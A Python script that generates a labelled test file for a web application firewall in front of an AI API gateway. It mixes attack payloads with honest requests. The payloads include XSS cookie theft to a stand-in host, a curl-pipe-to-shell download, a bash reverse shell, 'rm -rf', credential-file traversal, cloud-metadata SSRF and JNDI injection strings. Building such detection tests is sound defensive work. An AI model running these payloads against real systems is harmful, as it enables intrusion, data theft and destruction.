#!/usr/bin/env python3
"""Writes tests/guard/waf_own.jsonl: attacks by family, position and encoding, and honest requests.

The payloads are our own, written from how the attacked languages work; the seed is fixed, so that the file changes only
when this script does. Usage: training/waf/generate.py > tests/guard/waf_own.jsonl
"""
import base64
import json
import random
import urllib.parse

random.seed(20261)

ATTACKS = {
    "sqli": [
        "7' or 'q'='q", "9 or 3=3-- ", "x') or ('k'='k", "-4 union select 1,mail,3 from clients-- ",
        "5; drop table invoices-- ", "3' and sleep(7)-- ", "2 and (select count(*) from pg_tables)>1",
        "kim'-- ", "kim' #", "1' order by 9-- ", "8' and extractvalue(1,concat(0x7e,version()))-- ",
        "1;select pg_sleep(6)", "x'||(select banner from v$version where rownum=1)||'", "1 group by id having 4=4",
        "'; exec master..xp_cmdshell 'ver'-- ", "6/**/union/**/all/**/select/**/null,null", "1 and 1=cast((select 7) as int)",
        "z' and substring(@@version,1,1)='8", "1' waitfor delay '0:0:8'-- ", "\" or \"\"=\"", "1) or 2>1#",
        "4 rlike (select 1)", "x' like 'x", "1 procedure analyse(extractvalue(1,1),1)", "true' || pg_sleep(5)-- ",
    ],
    "nosql": ['{"$ne": null}', "'; return this.pin == 1; var z='", "' || 5==5 || 'a'=='b", '{"$where": "sleep(900)"}',
              "db.clients.drop()", '{"$regex": "^a"}'],
    "xss": [
        "<script>fetch('//e.example/'+document.cookie)</script>", "<img src=q onerror=confirm(7)>", "\"><svg onload=alert(4)>",
        "javascript:alert(9)", "<iframe srcdoc='<b>x'></iframe>", "' onfocus=prompt(3) autofocus='", "</title><script>x()</script>",
        "<details open ontoggle=alert(2)>", "\";alert(5);//", "<a href=\"java\tscript:alert(1)\">z</a>", "<body onpageshow=print()>",
        "data:text/html;base64,PHNjcmlwdD54PC9zY3JpcHQ+", "<math><mtext></mtext></math>", "${alert(8)}", "<object data=//e.example/x>",
        "top['al'+'ert'](6)", "<style>@import '//e.example/c.css';</style>", "eval(atob('YQ=='))",
    ],
    "traversal": [
        "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/hosts", "/etc/shadow", "..;/..;/manager",
        "%2e%2e/%2e%2e/secret", "/proc/self/environ", "file/../../../../root/.ssh/id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/var/log/nginx/access.log", "../.env", "php://filter/read=convert.base64-encode/resource=index", "a/..%c0%af../b", "notes.txt%00.png",
    ],
    "command_injection": [
        "; cat /etc/hosts", "| whoami", "$(id)", "`uname -a`", "&& curl http://e.example/s.sh | sh", "|| ping -c 9 10.9.8.7",
        "a;{cat,/etc/hosts}", "; sl''eep 8", "x\nid\n", ";${IFS}wget${IFS}http://e.example/a", "& dir c:\\", "| net user",
        "bash -i >& /dev/tcp/198.51.100.4/9001 0>&1", "() { :;}; /bin/id", "; c\\at /e*c/p?sswd", "powershell -enc SQBFAFgA",
        "'; nslookup q.e.example #", "$(sleep 6)", "; rm -rf /srv/data", "%0a/usr/bin/id", "& for /f %i in ('whoami') do echo %i",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/", "http://127.0.0.1:6379/", "http://[::1]:9200/_cat", "http://2130706433/",
        "http://0x7f000001/admin", "http://0177.0.0.1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/hosts", "dict://localhost:11211/stats",
        "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:169.254.169.254]/", "http://192.168.1.1/setup",
        "http://10.20.30.40:8080/", "http://172.20.0.5/", "http://127.1/", "http://good.example@127.0.0.1/", "http://app.127.0.0.1.nip.io/",
        "http://\u2460\u2461\u2466.0.0.1/", "ldap://e.example/o=x", "http://localhost:2375/containers/json",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY w SYSTEM "file:///etc/hostname">]><q>&w;</q>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://e.example/p.dtd"> %p;]><r/>',
        '<z xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts" parse="text"/></z>',
        '<!DOCTYPE b [<!ENTITY a "x"><!ENTITY c "&a;&a;&a;&a;">]><b>&c;</b>', '<!DOCTYPE q SYSTEM "http://e.example/q.dtd"><q/>',
    ],
    "ldap": ["*)(uid=*))(|(uid=*", "kim)(&)", "kim)(|(password=*))", "*)(objectClass=*", "x)(cn=a*", "*))%00", "kim)(!(&(1=0", "*(|(mail=*))"],
    "template": ["{{8*8}}", "{{ ''.__class__.__mro__[1] }}", "${9*9}", "<%= 5*5 %>", "#{6*6}", "{% for k in config %}{{k}}{% endfor %}",
                 "#set($e=7)$e.getClass()", "{{constructor.constructor('x')()}}", "${{3*3}}", "*{T(java.lang.Runtime).getRuntime()}",
                 "{{request.application.__globals__}}", "{{self.__init__.__globals__}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"],
    "java": ["${jndi:ldap://e.example/q}", "${${lower:j}ndi:rmi://e.example/a}", "${env:HOME:-x}", "%{(#a=@java.lang.Runtime@getRuntime())}",
             "class.module.classLoader.resources", "T(java.lang.System).exit(1)", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "new java.lang.ProcessBuilder('id').start()"],
    "php": ["<?php system('id'); ?>", "<?= `ls` ?>", "O:5:\"Token\":1:{s:2:\"id\";i:1;}", "phar://up/a.jpg", "assert($_POST[k])",
            "auto_prepend_file=php://input", "call_user_func('exec','id')", "file_get_contents('/etc/hosts')", "eval(base64_decode('aWQ='))", "$_GET['a']($_GET['b'])"],
    "node": ["require('child_process').execSync('id')", "process.env.KEY", "__proto__[admin]=1", "_$$ND_FUNC$$_function(){}()",
             "global.process.mainModule.require('fs')", "this.constructor.constructor('return process')()", "while(true){}",
             "(function(){return 1})()", "process.exit()"],
    "python": ["__import__('os').system('id')", "os.popen('id').read()", "exec('import os')", "().__class__.__bases__[0].__subclasses__()"],
    "splitting": ["a\r\nSet-Cookie: s=1", "a\r\n\r\n<html>x</html>", "q\nLocation: http://e.example/", "b\r\nGET /z HTTP/1.1"],
}
POSITIONS = ["query", "form", "header", "cookie", "path", "json_field", "json_model", "json_key", "metadata", "xml", "file_name", "fetch"]
AGENTS = ["OpenAI/Python 1.99.3", "Anthropic/JS 0.52.0", "python-httpx/0.28.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
          "curl/8.9.1", "Go-http-client/2.0", "litellm/1.77.1", "LangChain-JS/0.3 (node; darwin)", "PostmanRuntime/7.43.0", "okhttp/4.12.0", "google-genai-sdk/1.9 gl-python/3.12", "Boto3/1.40.3 md/Botocore#1.40 ua/2.1 os/linux#6.8"]


def quote(text, plus=False):
    return urllib.parse.quote_plus(text) if plus else urllib.parse.quote(text, safe="")


def encode(text, how):
    if how == "twice":
        return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    if how == "entities":
        return "".join(f"&#{ord(c)};" if not c.isalnum() and c != " " else c for c in text)
    if how == "unicode":
        return "".join(f"\\u{ord(c):04x}" if not c.isalnum() and c != " " else c for c in text)
    if how == "case":
        return "".join(c.upper() if random.random() < 0.5 else c for c in text)
    if how == "base64":
        return base64.b64encode(text.encode()).decode()
    if how == "full_width":
        return "".join(chr(ord(c) + 0xFEE0) if c in "<>'\"()=;" else c for c in text)
    return text


def head(method, path, **more):
    headers = {"Host": "api.gateway.example", "User-Agent": random.choice(AGENTS), "Accept": "application/json"}
    headers.update(more)
    return {"method": method, "path": path, "headers": headers, "body": ""}


CHAT = {"model": "gpt-4.1-mini", "messages": [{"role": "user", "content": "Hello"}]}


def as_json(path, body):
    row = head("POST", path, **{"Content-Type": "application/json"})
    row["body"] = json.dumps(body, ensure_ascii=random.random() < 0.5)
    return row


def place(text, position):
    if position == "query":
        return head("GET", f"/v1/files?order={quote(text, True)}")
    if position == "form":
        row = head("POST", "/session", **{"Content-Type": "application/x-www-form-urlencoded"})
        row["body"] = f"name={quote(text, True)}&go=1"
        return row
    if position == "header":
        return head("GET", "/v1/models", **{random.choice(["X-Tenant", "Referer", "User-Agent", "X-Request-Source"]): text.replace("\r", "%0d").replace("\n", "%0a")})
    if position == "cookie":
        return head("GET", "/v1/models", Cookie=f"lang=en; pref={quote(text)}")
    if position == "path":
        return head("GET", f"/v1/files/{quote(text)}/content")
    if position == "json_field":
        return as_json("/admin/teams", {"title": text, "seats": 4})
    if position == "json_model":
        return as_json("/v1/chat/completions", {**CHAT, "model": text})
    if position == "json_key":
        return as_json("/v1/chat/completions", {**CHAT, text: 1})
    if position == "metadata":
        return as_json("/v1/responses", {"model": "o4-mini", "input": "Hi", "metadata": {"run": text}})
    if position == "xml":
        row = head("POST", "/import", **{"Content-Type": "application/xml"})
        row["body"] = text if text.startswith("<") else "<a><b>" + text.replace("&", "&amp;").replace("<", "&lt;") + "</b></a>"
        return row
    if position == "file_name":
        row = head("POST", "/v1/files", **{"Content-Type": "multipart/form-data; boundary=zzz"})
        name = text.replace('"', "%22").replace("\r", "").replace("\n", " ")
        row["body"] = f'--zzz\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--zzz--\r\n'
        return row
    return as_json("/v1/chat/completions", {"model": "gpt-4.1", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "What is this?"}, {"type": "image_url", "image_url": {"url": text}}]}]})


PROMPTS = ["Explain why ' or 1=1-- works.", "Fix: SELECT * FROM t WHERE id = 1; DROP TABLE t;", "<script>alert(1)</script> is what?",
           "cat /etc/passwd | grep root prints what?", "Write a PHP shell: <?php system($_GET['c']); ?>", "Is http://169.254.169.254/ dangerous?",
           "What does ${jndi:ldap://x} do?", "{{7*7}} in Jinja", "rm -rf / on Linux", "Translate: Guten Tag"]
SAFE_VALUES = ["O'Brien & Sons", "select a plan", "union of workers", "a < b and c > d", "5 - 3 = 2", "tea; more tea", "**bold** and `code`",
               "see [docs](https://docs.example.org/a?b=c)", "J\u00f6rg M\u00fcller", "\u5f20\u4f1f", "L'\u00e9tat, c'est moi", "cost (USD)", "Q&A", "AT&T", "R&D; Europe",
               "drop me a line", "order by phone", "50% off", "x^2 + y^2", "C++ / C#", "who am I", "the cat sat", "<Bob>", "I <3 you", "#1 choice",
               "\"quoted\" words", "it's 5 or 6", "feature/login-v2", "2026-11-22T10:00:00Z", "9f86d081884c7d659a2feaa0c55ad015", "a|b|c", "{\"env\": \"prod\"}",
               "null", "true", "insert coin", "update: done", "delete me later", "where to go", "exec summary", "system prompt v3", "eval run 12",
               "alert (red)", "https://www.example.org/cb?x=1&y=2", "user@example.org", "+49 30 1234567", "1,2,3", "v1.2.3-rc.1", "foo_bar-baz", "group/user:role",
               "rock 'n' roll", "mother-in-law", "e.g. this, i.e. that", "Smith; Jones", "[draft] notes", "~10 items", "$5.00", "100 %", "size > 3 GB", "no. 7"]
MODELS = ["accounts/fireworks/models/llama-v3p1-8b", "ft:gpt-4o-mini-2024-07-18:acme::AbC123", "anthropic.claude-3-7-sonnet-20250219-v1:0", "models/gemini-2.5-pro",
          "@cf/meta/llama-3.1-8b-instruct", "deepseek/deepseek-chat:free", "us.amazon.nova-pro-v1:0", "arn:aws:bedrock:eu-west-1:123456789012:inference-profile/eu.x-v1:0",
          "openrouter/auto", "gpt-4.1", "claude-opus-4-1@20250805", "command-r-plus-08-2024", "meta-llama/Llama-3.3-70B-Instruct-Turbo", "text-embedding-3-large"]
HEADERS = [{"x-stainless-lang": "python", "x-stainless-os": "MacOS", "x-stainless-arch": "arm64", "x-stainless-retry-count": "0", "x-stainless-runtime-version": "3.12.4"},
           {"anthropic-beta": "prompt-caching-2024-07-31,token-efficient-tools-2025-02-19", "anthropic-version": "2023-06-01"},
           {"traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "baggage": "userId=alice,serverNode=DF%2028,isProduction=false", "tracestate": "rojo=00f067aa0ba902b7"},
           {"sec-ch-ua": '"Chromium";v="141", "Not(A:Brand";v="24", "Google Chrome";v="141"', "sec-ch-ua-platform": '"macOS"', "sec-fetch-mode": "cors"},
           {"Cookie": "sid=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.abc-DEF_123; theme=%7B%22dark%22%3Atrue%7D; _ga=GA1.2.123456.789"},
           {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "Accept-Language": "de-DE,de;q=0.9,en;q=0.8"},
           {"If-None-Match": 'W/"67ab43", "54ed21"', "Cache-Control": "no-cache"}, {"X-Forwarded-For": "10.1.2.3, 203.0.113.7", "X-Forwarded-Proto": "https"},
           {"Referer": "https://app.example.org/chat?id=42#top", "Origin": "http://localhost:3000"}, {"Range": "bytes=0-1023"},
           {"Authorization": "Bearer sk-proj-abcDEF123_456-ghi", "OpenAI-Organization": "org-123", "Idempotency-Key": "6b3c-11"},
           {"X-Amz-Date": "20261122T101010Z", "Authorization": "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261122/us-east-1/bedrock/aws4_request, SignedHeaders=host;x-amz-date, Signature=abc0123"}]


def honest():
    kind = random.randrange(12)
    value, model, prompt = random.choice(SAFE_VALUES), random.choice(MODELS), random.choice(PROMPTS)
    if kind == 0:
        return "query", head("GET", f"/v1/files?order=desc&q={quote(value, True)}", **random.choice(HEADERS))
    if kind == 1:
        row = head("POST", "/session", **{"Content-Type": "application/x-www-form-urlencoded"})
        row["body"] = f"name={quote(value, True)}&note={quote(random.choice(SAFE_VALUES), True)}"
        return "form", row
    if kind == 2:
        return "admin", as_json("/admin/teams", {"title": value, "tags": random.sample(SAFE_VALUES, 3), "models": [model, "gpt-*"]})
    if kind == 3:
        row = as_json("/v1/chat/completions", {"model": model, "user": value, "metadata": {"topic": random.choice(SAFE_VALUES)},
                      "messages": [{"role": "system", "content": prompt}, {"role": "user", "content": random.choice(PROMPTS)}]})
        row["headers"].update(random.choice(HEADERS))
        return "chat", row
    if kind == 4:
        return "tools", as_json("/v1/chat/completions", {"model": model, "messages": [
            {"role": "assistant", "content": None, "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "run_sql", "arguments": json.dumps({"q": prompt})}}]},
            {"role": "tool", "tool_call_id": "call_1", "content": prompt}],
            "tools": [{"type": "function", "function": {"name": "run_sql", "description": prompt, "parameters": {"type": "object", "properties": {
                "q": {"type": "string", "pattern": "^(?!.*(drop|delete)).*$", "enum": ["SELECT 1; --", prompt], "default": "<b>"}}, "$defs": {"$x": {"$ref": "#/$defs/y"}}}}}],
            "response_format": {"type": "json_schema", "json_schema": {"name": "out", "schema": {"type": "object", "description": prompt}}}, "stop": ["</s>", "'; --"]})
    if kind == 5:
        return "anthropic", as_json("/v1/messages", {"model": "claude-sonnet-4-5", "max_tokens": 99, "system": [{"type": "text", "text": prompt, "cache_control": {"type": "ephemeral"}}],
            "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://cdn.example.org/a b.png?x=1"}}, {"type": "text", "text": prompt}]},
                         {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "bash", "input": {"command": "cat /etc/hosts; ls -la | wc", "url": "http://localhost/"}}]},
                         {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": prompt}]}]})
    if kind == 6:
        return "gemini", as_json("/v1beta/models/gemini-2.5-flash:generateContent", {"contents": [{"role": "user", "parts": [{"text": prompt}, {"fileData": {"mimeType": "application/pdf", "fileUri": "https://generativelanguage.googleapis.com/v1beta/files/abc"}}]}],
            "systemInstruction": {"parts": [{"text": prompt}]}, "generationConfig": {"stopSequences": ["--"], "responseSchema": {"type": "OBJECT", "description": prompt}},
            "tools": [{"functionDeclarations": [{"name": "f", "description": prompt, "parameters": {"type": "OBJECT"}}]}]})
    if kind == 7:
        return "responses", as_json("/v1/responses", {"model": model, "instructions": prompt, "input": [{"role": "user", "content": [{"type": "input_text", "text": prompt}, {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0KGgo="}, {"type": "input_file", "filename": "Q3 report (final) \u00fcbersicht.pdf"}]},
            {"type": "function_call_output", "call_id": "c1", "output": prompt}], "metadata": {"ref": value}})
    if kind == 8:
        return "cohere", as_json("/v2/chat", {"model": "command-a", "messages": [{"role": "user", "content": prompt}], "documents": [{"data": {"title": prompt, "url": "http://10.0.0.1/wiki"}}]})
    if kind == 9:
        return "bedrock", as_json("/model/us.amazon.nova-lite-v1%3A0/converse", {"messages": [{"role": "user", "content": [{"text": prompt}, {"toolResult": {"toolUseId": "t", "content": [{"json": {"sql": prompt}}]}}]}], "system": [{"text": prompt}], "inferenceConfig": {"stopSequences": ["';"]}})
    if kind == 10:
        row = head("POST", "/v1/files", **{"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4"})
        name = random.choice(["Bericht (2).docx", "data set.jsonl", "r\u00e9sum\u00e9.pdf", "main.py", "photo 1.jpeg", "script.sh", "a&b.csv", "\u62a5\u544a.txt"])
        row["body"] = f'------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nassistants\r\n------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n{prompt}\r\n------WebKitFormBoundary7MA4--\r\n'
        return "upload", row
    return "headers", head("GET", random.choice(["/v1/models", "/oauth/authorize?client_id=7&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcb%3Fa%3D1&state=x%2By", "/.well-known/openid-configuration", "/ui/assets/index-B3x.js", "/v1/threads/thread_1/runs?limit=20&after=run_2", "/search?q=select+a+plan"]), **random.choice(HEADERS))


def main():
    number = 0
    for family, payloads in ATTACKS.items():
        for payload in payloads:
            for position in random.sample(POSITIONS[:9], 2) + ([random.choice(POSITIONS[9:])] if random.random() < 0.3 else []):
                if family == "xxe":
                    position = random.choice(["xml", "query", "form", "json_field", "header"])
                if position in ("file_name", "fetch") and family not in ("traversal", "ssrf"):
                    position = "query"
                if position == "header" and ("\u2460" in payload):
                    position = "query"
                how = random.choices(["plain", "twice", "entities", "unicode", "case", "base64", "full_width"], [60, 8, 5, 6, 6, 5, 4])[0]
                if how in ("case", "full_width") and family not in ("sqli", "xss") or position in ("json_model", "path") and how == "base64":
                    how = "plain"
                if how != "plain" and (position in ("xml", "file_name", "fetch") or "%" in payload or not payload.isascii()):
                    how = "plain"
                row = place(encode(payload, how), position)
                number += 1
                print(json.dumps({"id": f"wown-{number:04}", **row, "label": "attack", "family": family, "source": "own", "position": position, "encoding": how}, ensure_ascii=False))
    for _ in range(280):
        family, row = honest()
        number += 1
        print(json.dumps({"id": f"wown-{number:04}", **row, "label": "benign", "family": f"honest_{family}", "source": "own"}, ensure_ascii=False))


main()
